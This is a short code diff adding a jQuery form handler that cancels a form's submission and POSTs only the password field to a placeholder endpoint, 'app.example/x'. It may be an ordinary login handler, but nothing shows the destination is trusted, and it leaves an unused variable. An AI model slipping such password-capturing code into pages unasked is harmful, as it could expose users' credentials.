@@ -1,0 +1,2 @@
+import $ from 'jquery';
+document.querySelector('#f').addEventListener('submit',e=>{e.preventDefault();const pw=document.querySelector('#password').value;$.ajax('https://app.example/x',{method:'POST',data:{pw:$('#password').val()}})});
